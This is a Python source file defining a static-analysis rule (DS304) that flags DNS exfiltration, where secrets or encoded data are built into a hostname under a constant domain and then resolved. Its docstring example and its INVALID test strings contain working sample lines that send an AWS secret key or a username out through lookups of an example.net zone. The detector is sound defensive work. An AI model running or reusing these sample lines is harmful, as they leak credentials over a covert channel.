"""DS304 dns-exfiltration: data encoded into a hostname that is then resolved."""

from __future__ import annotations

import re

from datasec_scan.lazycst import cst

from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Rule
from datasec_scan.semantics.constants import fold_str
from datasec_scan.tree import Visitor, walk

from ._outbound import CRITICAL_LABELS, Analyzer, label_severity, label_text, may_resolve_name
from ._prescreen import CodeTextScreen

_LOCAL_SUFFIXES = (".local", ".localdomain", ".lan", ".home.arpa", ".localhost", ".internal")
_ENCODERS = ("b64encode", "b32encode", "b16encode", "urlsafe_b64encode", "hexlify", "hex", "b85encode", "encode")


_PERCENT_FIELD = re.compile(r"%[-#0 +]*\d*(?:\.\d+)?[sdirxXuf]")
_BRACE_FIELD = re.compile(r"\{\}")


def _trailing_constant(fmt: str, field: re.Pattern[str], args: list[cst.BaseExpression], names: object) -> str | None:
    """The constant end of a formatted name: its text after the last field, and the fields before it whose values
    are constants (`"%s.%d.%s" % (chunk, i, DOMAIN)` ends in "." + DOMAIN)."""
    pieces = field.split(fmt)
    if len(pieces) - 1 != len(args):
        return pieces[-1] if len(pieces) > 1 else None
    suffix = pieces[-1]
    for text, arg in zip(reversed(pieces[:-1]), reversed(args)):
        value = fold_str(arg, names)  # type: ignore[arg-type]
        if value is None:
            return suffix
        suffix = text + value + suffix
    return None  # every part constant: not a composite name


class DnsExfiltration(CodeTextScreen, Rule):
    """Data is smuggled out inside a DNS name: a hostname built from data, with a constant domain, is resolved.

    ## What it does
    Looks at DNS lookups (`socket.gethostbyname`, `getaddrinfo`, `gethostbyname_ex`,
    `dns.resolver.resolve`/`query`, `aiodns`, `nslookup`/`dig`/`host`/`ping` child processes)
    whose name is built — f-string, `+`, `%`, `.format`, `".".join(...)` — from a non-constant part
    followed by a constant domain (`f"{chunk}.t.example.net"`). It reports when that part carries
    sensitive data (DS301's sources: environment, credential files, host fingerprints...) or is
    encoded (`base64`/`base32`/hex).
    Resolving the machine's own name (`gethostbyname(socket.gethostname())`) is not reported.

    Severity: **critical** for credentials and secrets, **high** for other sensitive data,
    **medium** for an encoded value whose origin is not known.

    ## Why is this bad?
    DNS queries leave almost every network, even ones that block outbound HTTP; the authoritative
    server of the attacker's zone receives each label. It is a classic covert channel for stealers
    and for beacons that announce a new victim.

    ## Example
    ```python
    import base64, os, socket
    data = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().strip("=")
    socket.gethostbyname(f"{data}.x.example.net")
    ```

    ## How to fix
    Remove the lookup. Names a program resolves should be configuration, not data.

    ## References
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    - MITRE ATT&CK T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol, T1071.004 DNS
    """

    code = "DS304"
    name = "dns-exfiltration"
    category = Category.OUTBOUND_DATA
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (200,)
    attack = ("T1048.003", "T1071.004")
    VALID = (
        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
        "import socket\nsocket.getaddrinfo('example.com', 443)\n",
        "import socket\ndef lookup(host):\n    return socket.gethostbyname(host)\n",
        "import socket\nregion = 'eu'\nsocket.gethostbyname(f'api.{region}.example.com')\n",
        "import subprocess\ndef check(name):\n    subprocess.run(['nslookup', name + '.svc.example.com'])\n",
        "import socket\ndef resolve(host, domain):\n    return socket.getaddrinfo('%s.%s' % (host, domain), 443)\n",
    )
    INVALID = (
        "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
        ("import base64, socket\ndef beacon(data):\n    socket.gethostbyname(base64.b32encode(data).decode() + "
         "'.x.example.net')\n"),
        "import getpass, subprocess\nsubprocess.run(['nslookup', getpass.getuser() + '.x.example.net'])\n",
        "import getpass, socket\nZONE = 'x.example.net'\nsocket.getaddrinfo('%s.%d.%s' % (getpass.getuser(), 0, ZONE), 80)\n",
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """Necessary for a report: a DNS lookup or a child process (`nslookup`, `dig`...) of the sink catalog,
        see `_outbound`'s pre-screens."""
        return may_resolve_name(text)

    def visit_Call(self, node: cst.Call) -> None:
        analyzer = Analyzer.of(self.context)
        sink = analyzer.sink(node)
        if sink is None:
            return
        if sink.spec.dns:
            name = sink.destination_expr
        elif sink.spec.destination == "command":  # `nslookup {data}.x.example.net`, `dig`, `host`, `ping`
            name = next((a for a in analyzer.command_name_args(node) if self._composite_with_domain(analyzer, a)),
                        None)
        else:
            return
        if name is None or not self._composite_with_domain(analyzer, name):
            return
        taints = analyzer.flow.taints(name, analyzer.classify)
        if taints:
            taint = max(taints, key=lambda t: (label_severity(t.label), -len(t.steps)))
            kind = taint.label.split(":", 1)[0]
            severity = Severity.CRITICAL if kind in CRITICAL_LABELS or kind in ("env-secret", "environment") else \
                Severity.HIGH
            self.report(node, f"{label_text(taint.label)} is encoded into a DNS name resolved by {sink.method}()",
                        severity=severity, flow=taint.steps + ((node, f"sink: resolved by {sink.method}()"),))
        elif self._encoded(name):
            self.report(node, f"encoded data is put into a DNS name resolved by {sink.method}()",
                        severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)

    @staticmethod
    def _composite_with_domain(analyzer: Analyzer, expr: cst.BaseExpression, depth: int = 0) -> bool:
        """A name with a non-constant part followed by a constant domain suffix ("….x.example.net")."""
        if depth > 3:
            return False
        names = analyzer.names
        if fold_str(expr, names) is not None:
            return False
        if isinstance(expr, (cst.Name, cst.Attribute)):
            values = analyzer.flow.values_of(expr)
            return len(values) == 1 and DnsExfiltration._composite_with_domain(analyzer, values[0], depth + 1)
        suffix = None
        if isinstance(expr, cst.FormattedString):
            suffix = ""
            for part in reversed(expr.parts):
                text = part.value if isinstance(part, cst.FormattedStringText) else fold_str(
                    part.expression, names)  # type: ignore[union-attr]
                if text is None:
                    break
                suffix = text + suffix
        elif isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Add):
            suffix = fold_str(expr.right, names)
        elif isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Modulo):
            fmt = fold_str(expr.left, names)
            args = [e.value for e in expr.right.elements] if isinstance(expr.right, cst.Tuple) else [expr.right]
            suffix = _trailing_constant(fmt, _PERCENT_FIELD, args, names) if fmt else None
        elif isinstance(expr, cst.Call) and isinstance(expr.func, cst.Attribute):
            if expr.func.attr.value == "format":
                fmt = fold_str(expr.func.value, names)
                args = [a.value for a in expr.args if a.keyword is None and not a.star]
                suffix = _trailing_constant(fmt, _BRACE_FIELD, args, names) if fmt and "{}" in fmt else (
                    fmt.rsplit("}", 1)[-1] if fmt and "}" in fmt else None)
            elif expr.func.attr.value == "join" and fold_str(expr.func.value, names) == "." and expr.args:
                seq = expr.args[0].value
                if isinstance(seq, (cst.List, cst.Tuple)) and seq.elements:
                    suffix = "." + (fold_str(seq.elements[-1].value, names) or "")
        if suffix and suffix.lower().rstrip(".").endswith(_LOCAL_SUFFIXES):
            return False  # `f"{socket.gethostname()}.local"`: a name on the local network, not an attacker's zone
        return bool(suffix) and "." in suffix.strip(".") or bool(suffix and suffix.startswith(".") and len(suffix) > 3)

    @staticmethod
    def _encoded(expr: cst.BaseExpression) -> bool:
        found = False

        class _Calls(Visitor):
            def visit_Call(self, node: cst.Call) -> None:
                nonlocal found
                if isinstance(node.func, (cst.Attribute, cst.Name)):
                    name = node.func.attr.value if isinstance(node.func, cst.Attribute) else node.func.value
                    if name in _ENCODERS and name != "encode":
                        found = True

        walk(expr, _Calls())
        return found
